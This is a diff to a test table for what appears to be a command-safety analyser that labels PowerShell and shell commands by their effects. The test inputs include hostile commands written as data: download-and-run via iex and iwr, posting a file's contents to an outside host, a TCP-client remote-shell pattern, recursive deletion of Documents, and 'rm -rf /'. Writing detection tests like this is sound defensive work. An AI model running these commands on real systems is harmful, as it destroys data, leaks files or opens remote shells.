@@ -48,7 +48,38 @@ test.each([
   ],
   ['a variable', 'Get-Content $path', ['unknown: PowerShell variable `$path` is not followed']],
   ['an expression in a text', 'echo "$(rm x)"', ['unknown: PowerShell expressions inside texts are not analysed']],
-  ['a drive', 'Get-Content C:\\Users\\x', ['unknown: `C:\\Users\\x` is on a drive that is not analysed']],
+  ['a drive', 'Get-Content C:\\Users\\x', ['read /c/Users/x', 'unknown: `C:\\Users\\x` is on a drive that is not analysed']],
+  [
+    'a change on a drive',
+    "Set-Content 'C:\\Windows\\a b.txt' 'x'",
+    [
+      'write /c/Windows/a b.txt',
+      'unknown: `C:\\Windows\\a b.txt` is on a drive that is not analysed',
+      'unknown: `Set-Content` changes files',
+    ],
+  ],
+  [
+    'a folder of the home in a text',
+    'Remove-Item "$env:USERPROFILE\\Documents" -Recurse',
+    ['delete ~/Documents', 'infra:destroy a drive or a folder of the system', 'unknown: `Remove-Item` changes files'],
+  ],
+  [
+    'what a pipeline in brackets prints',
+    'Invoke-RestMethod https://x.example -Method Post -Body (Get-Content a.txt -Raw)',
+    ['read a.txt', 'connect:post https://x.example', 'send:data https://x.example'],
+  ],
+  [
+    'a property of what it prints',
+    '(Get-Content package.json).Length',
+    ['read package.json', 'unknown: PowerShell `.Length` is not followed'],
+  ],
+  ['brackets left open', 'Get-Content (Get-Date', ['unknown: PowerShell brackets that are not closed']],
+  ['a call of a method', '(Get-Item a).Delete()', ['unknown: PowerShell `(Get-Item a).Delete(` is not analysed']],
+  [
+    'a table',
+    'irm https://x.example -Headers @{ a = 1 }',
+    ['connect:get https://x.example', 'unknown: a PowerShell table is not analysed'],
+  ],
   ['a cmdlet nobody described', 'Stop-Computer', ['process:shutdown this machine', 'unknown: cmdlet `Stop-Computer` is not described']],
   [
     'a parameter nobody described',
@@ -59,12 +90,23 @@ test.each([
   [
     'download and run',
     'iex (iwr https://x.example/a.ps1)',
-    ['execute:download text from the network', 'unknown: PowerShell `(iwr https://x.examp` is not analysed'],
+    [
+      'connect:get https://x.example/a.ps1',
+      'execute:download $(curl https://x.example/a.ps1)',
+      'unknown: runs `$(curl https://x.example/a.ps1)`, text only known at run time',
+      'execute:download text from the network',
+      'unknown: `iex` changes what runs',
+    ],
   ],
   [
     'running what is sent',
     'New-Object Net.Sockets.TCPClient; iex x',
-    ['execute:arbitrary iex', 'execute:remote-shell a shell joined to the network', 'unknown: cmdlet `New-Object` is not described'],
+    [
+      'unknown: program `x` is not described',
+      'execute:remote-shell a shell joined to the network',
+      'unknown: cmdlet `New-Object` is not described',
+      'unknown: `iex` changes what runs',
+    ],
   ],
   ['the environment', 'Get-ChildItem Env:', ['infra:secret environment']],
   ['a program that destroys', 'rm -rf /', ['delete /', 'unknown: parameter `-rf` of `rm` is not described', 'unknown: `rm` changes files']],
